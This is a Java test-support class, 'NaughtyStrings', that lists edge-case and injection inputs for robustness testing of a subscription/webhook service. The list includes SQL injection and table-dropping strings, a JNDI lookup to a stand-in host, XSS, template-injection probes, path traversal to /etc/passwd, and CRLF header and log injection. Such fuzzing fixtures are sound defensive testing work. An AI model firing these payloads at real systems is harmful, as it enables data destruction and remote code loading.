package dev.carillon.subscription.support;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.IntStream;

/// Texts that break programs that are not careful: one of each kind of character, and the classics
/// of injection. Made by rule, so that every class of trouble is there and none is a matter of
/// taste.
public final class NaughtyStrings {

    private static final List<String> CLASSICS =
            List.of(
                    "",
                    " ",
                    "\t",
                    "null",
                    "undefined",
                    "NaN",
                    "true",
                    "[]",
                    "{}",
                    "0",
                    "-1",
                    "1e309",
                    "0x41",
                    "9223372036854775808",
                    "' or '1'='1",
                    "'; drop table webhooks; --",
                    "\" or \"\"=\"",
                    "1; select pg_sleep(9)",
                    "$$; select 1; $$",
                    ":id",
                    "<id>",
                    "?",
                    "??",
                    "\\",
                    "\\'",
                    "%s%n%x",
                    "${jndi:ldap://x.example/a}",
                    "#{7*7}",
                    "{{7*7}}",
                    "<script>alert(1)</script>",
                    "<!--",
                    "]]>",
                    "&lt;",
                    "../../../etc/passwd",
                    "C:\\nul",
                    "a\r\nSet-Cookie: x=1",
                    "a\nfake log line",
                    "\u001b[31mred\u001b[0m",
                    "\",\"level\":\"ERROR\",\"x\":\"",
                    "\0",
                    "a\0b",
                    "\ud800",
                    "\udc00a",
                    "\ud83d",
                    "\ufffe",
                    "\uffff",
                    "\ufeffbom",
                    "\u202eevil\u202c",
                    "\u2066x\u2069",
                    "\u200b\u200c\u200d\u2060",
                    "e\u0301 \u00e9",
                    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319",
                    "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67",
                    "\ud83c\uddef\ud83c\uddf5",
                    "\ufdfd",
                    "\u0130\u0131\u00df\u1e9e",
                    "\uff0e\uff0e/",
                    "\uff07",
                    "crl_" + "a".repeat(43),
                    "***",
                    "__proto__",
                    "constructor",
                    "x".repeat(255),
                    "x".repeat(256),
                    "x".repeat(10_000));

    private NaughtyStrings() {}

    /// All of them, none twice.
    public static List<String> all() {
        Set<String> all = new LinkedHashSet<>(CLASSICS);
        // Each of the first 256 characters alone and between two others.
        IntStream.range(0, 256)
                .forEach(point -> {
                    all.add(Character.toString(point));
                    all.add("a" + Character.toString(point) + "b");
                });
        // One character of each general category and of each block's beginning.
        Set<Integer> categories = new LinkedHashSet<>();
        for (int point = 256; point <= Character.MAX_CODE_POINT; point += 7) {
            if (categories.add(Character.getType(point)) || point % 4_096 == 0) {
                all.add("a" + Character.toString(point) + "b");
            }
        }
        return new ArrayList<>(all);
    }
}
